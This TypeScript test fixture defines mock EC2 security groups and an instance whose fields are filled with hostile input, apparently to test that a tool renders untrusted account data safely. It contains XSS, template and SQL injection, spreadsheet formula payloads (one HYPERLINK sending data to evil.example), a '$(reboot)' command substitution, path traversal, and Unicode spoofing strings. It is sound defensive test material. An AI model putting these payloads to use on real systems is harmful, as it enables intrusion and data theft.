/**
 * Text that somebody with write access to an account could put there. Names and descriptions of groups and rules
 * keep to the characters EC2 enforces; tags may carry anything.
 */
import { VPC } from "./demo-ids.ts";
import type { EstatePart } from "./estate-part.ts";

const vpc = VPC.catalog;
const LONGEST_NAME = `zz-${"very-long-name-".repeat(16)}`.padEnd(255, "x");

export const hostileText: EstatePart = {
  groups: [
    {
      name: "javascript:alert(document.domain)//",
      description: "{{constructor.constructor(alert)()}} {{7*7}} #{7*7}",
      vpc,
      ingress: [{ ports: 22, cidr: "203.0.113.254/32", description: "=1+1+cmd(calc)!A0" }],
      tags: {
        Name: "<script>alert(document.domain)</script>",
        owner: '"><img src=x onerror=alert(1)>',
        ticket: "javascript:alert(1)",
      },
    },
    {
      name: "=SUM(1+1)*cmd",
      description: "@SUM(A1:A9)",
      vpc,
      ingress: [{ ports: 443, cidr: "203.0.113.253/32", description: "+2+5" }],
      tags: {
        Name: '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
        note: "-2+3+cmd|' /C calc'!A0",
        tab: "\t=1+1",
      },
    },
    {
      name: "../../../../etc/passwd",
      description: "$(reboot); DROP TABLE grant; --",
      vpc,
      ingress: [],
      tags: { Name: "Robert'); DROP TABLE person;--", ansi: "\u001b[2J\u001b[31mALL CLEAR\u001b[0m" },
    },
    {
      name: "shop-ssh-admin",
      description: "Same name as the real one, in another VPC and account",
      vpc,
      ingress: [{ ports: 22, cidr: "0.0.0.0/0", description: "approved by Casey Lindqvist" }],
      tags: {
        // A right-to-left override, then an isolate: shown raw, it would read as another group's name.
        Name: "shop\u202Ebew-nimda\u202C ssh\u2066admin\u2069",
        lookalike: "s\u200Bh\u200Co\u200Dp-web\uFEFF",
        homoglyph: "\u0455hop-web",
        lines: "first line\r\nSet-Cookie: session=1\u2028second line\u0085",
      },
    },
    {
      name: LONGEST_NAME,
      description: "d".repeat(255),
      vpc,
      ingress: [{ ports: 8443, cidr: "198.51.100.250/32", description: "r".repeat(255) }],
      tags: { Name: "🏴‍☠️".repeat(20), ["k".repeat(128)]: "v".repeat(256), __proto__x: "constructor" },
    },
  ],
  instances: [
    {
      id: "i-04786a2284cfdb1e7",
      subnet: "catalog-a",
      address: "10.120.0.66",
      groups: [LONGEST_NAME, "../../../../etc/passwd"],
      tags: { Name: "</title><svg onload=alert(1)>\u202Etxt.exe" },
    },
  ],
};
